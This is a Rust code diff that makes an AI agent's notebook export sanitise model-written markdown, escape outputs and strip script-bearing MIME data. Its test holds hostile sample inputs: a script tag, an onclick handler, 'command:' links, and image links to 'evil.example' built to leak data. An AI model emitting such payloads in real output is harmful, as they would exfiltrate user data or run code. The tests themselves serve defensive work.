@@ -1,11 +1,14 @@
 //! A run as a Jupyter notebook: nbformat 4.5, with outputs.
 
+use std::collections::HashSet;
+
+use serde::Serialize;
 use serde_json::{Value, json};
 
-use super::escape;
 use super::lineage::Lineage;
 use super::script::{heading, setup};
-use crate::agent::execution::{MimeBundle, Output};
+use super::{escape, mime, sanitize};
+use crate::agent::execution::{ExecutionError, MimeBundle, Output};
 use crate::agent::run::{Run, Step};
 
 /// Gives an artifact's MIME type and its contents as a notebook holds them.
@@ -30,7 +33,7 @@ pub fn notebook(run: &Run, lineage: &Lineage, artifact: Artifacts<'_>) -> Value 
     }
     for step in &run.steps {
         if !step.note.trim().is_empty() {
-            cells.push(markdown_cell(&format!("note-{}", step.step), &escape::plain(step.note.trim())));
+            cells.push(markdown_cell(&format!("note-{}", step.step), &sanitized(step.note.trim())));
         }
         match lineage.blocks.iter().find(|block| block.earlier.is_none() && block.step == step.step) {
             Some(block) if block.partial => {
@@ -42,7 +45,7 @@ pub fn notebook(run: &Run, lineage: &Lineage, artifact: Artifacts<'_>) -> Value 
         }
     }
     if let Some(answer) = &run.final_answer {
-        cells.push(markdown_cell("answer", &escape::plain(answer)));
+        cells.push(markdown_cell("answer", &sanitized(answer)));
     }
     json!({
         "cells": cells,
@@ -53,6 +56,11 @@ pub fn notebook(run: &Run, lineage: &Lineage, artifact: Artifacts<'_>) -> Value 
         "nbformat": 4,
         "nbformat_minor": 5,
     })
+}
+
+/// Markdown of a model. Charts stand in the outputs of their steps, and no file stands beside a notebook.
+fn sanitized(markdown: &str) -> String {
+    sanitize::sanitize(markdown, &HashSet::new(), "")
 }
 
 /// A step that is told and not run again.
@@ -79,14 +87,14 @@ fn code_cell(step: &Step, artifact: Artifacts<'_>) -> Value {
         // Records without ordered outputs still have their streams.
         for (name, text) in [("stdout", &step.stdout), ("stderr", &step.stderr)] {
             if !text.is_empty() {
-                outputs.push(json!({"output_type": "stream", "name": name, "text": text}));
+                outputs.push(stream(name, text));
             }
         }
     }
     if let Some(error) = &step.error
         && !outputs.iter().any(|output| output["output_type"] == "error")
     {
-        outputs.push(json!({"output_type": "error", "ename": error.ename, "evalue": error.evalue, "traceback": error.traceback.lines().collect::<Vec<_>>()}));
+        outputs.push(raised(error));
     }
     json!({
         "cell_type": "code",
@@ -100,22 +108,66 @@ fn code_cell(step: &Step, artifact: Artifacts<'_>) -> Value {
 
 fn output_of(step: &Step, output: &Output, artifact: Artifacts<'_>) -> Option<Value> {
     Some(match output {
-        Output::Stream { name, text } => json!({"output_type": "stream", "name": name, "text": text}),
+        Output::Stream { name, text } => stream(name, text),
         Output::ExecuteResult { data } => {
             json!({"output_type": "execute_result", "execution_count": step.step, "metadata": {}, "data": with_contents(data, artifact)?})
         }
         Output::DisplayData { data, .. } => json!({"output_type": "display_data", "metadata": {}, "data": with_contents(data, artifact)?}),
-        Output::Error(error) => {
-            json!({"output_type": "error", "ename": error.ename, "evalue": error.evalue, "traceback": error.traceback.lines().collect::<Vec<_>>()})
-        }
+        Output::Error(error) => raised(error),
     })
 }
 
-/// A MIME bundle in which the reference to an artifact is its contents again; nothing where that leaves nothing.
+fn stream(name: impl Serialize, text: &str) -> Value {
+    json!({"output_type": "stream", "name": json!(name), "text": escape::plain(text)})
+}
+
+fn raised(error: &ExecutionError) -> Value {
+    let traceback = escape::plain(&error.traceback);
+    json!({
+        "output_type": "error",
+        "ename": escape::plain(&error.ename),
+        "evalue": escape::plain(&error.evalue),
+        "traceback": traceback.lines().collect::<Vec<_>>(),
+    })
+}
+
+/// A MIME bundle in which the reference to an artifact is its contents again, without what would run or load
+/// something; nothing where that leaves nothing.
 fn with_contents(data: &MimeBundle, artifact: Artifacts<'_>) -> Option<Value> {
     let mut bundle = data.clone();
     if let Some(name) = bundle.remove("artifact") {
         bundle.extend(name.as_str().and_then(artifact));
     }
+    let bundle = mime::safe(&bundle);
     (!bundle.is_empty()).then_some(Value::Object(bundle))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::report::lineage::Lineage;
+
+    #[test]
+    fn what_a_model_or_a_step_says_neither_runs_nor_loads_in_a_notebook() {
+        let Value::Object(data) = json!({
+            "text/html": "<table><tr><td onclick=\"x()\">7</td></tr></table><script>x()</script><img src=\"https://evil.example/\">",
+            "text/markdown": "![c](https://evil.example/leak)",
+            "application/javascript": "x()",
+        }) else {
+            return;
+        };
+        let step = Step { step: 1, code: "t".to_owned(), outputs: vec![Output::ExecuteResult { data }], ..Step::default() };
+        let run = Run {
+            final_answer: Some("![c](https://evil.example/?d=1) <b>x</b> [run](command:x) [r]\n\n[r]: https://evil.example/".to_owned()),
+            steps: vec![Step { note: "<img src=x>".to_owned(), ..step }],
+            ..Run::default()
+        };
+        let notebook = notebook(&run, &Lineage::unchecked(&run, "no sandbox"), &|_| None);
+        let cells = notebook["cells"].as_array().cloned().unwrap_or_default();
+        let cell = |id: &str| cells.iter().find(|cell| cell["id"] == id).cloned().unwrap_or_default();
+        assert_eq!(cell("answer")["source"], "c `<b>`x`</b>` run `command:x` r `https://evil.example/`");
+        assert!(cell("note-1")["source"].as_str().is_some_and(|note| note.trim_start().starts_with("```")));
+        let data = json!({"text/html": "<table><tr><td>7</td></tr></table>", "text/markdown": "c"});
+        assert_eq!(cell("step-1")["outputs"][0]["data"], data);
+    }
 }
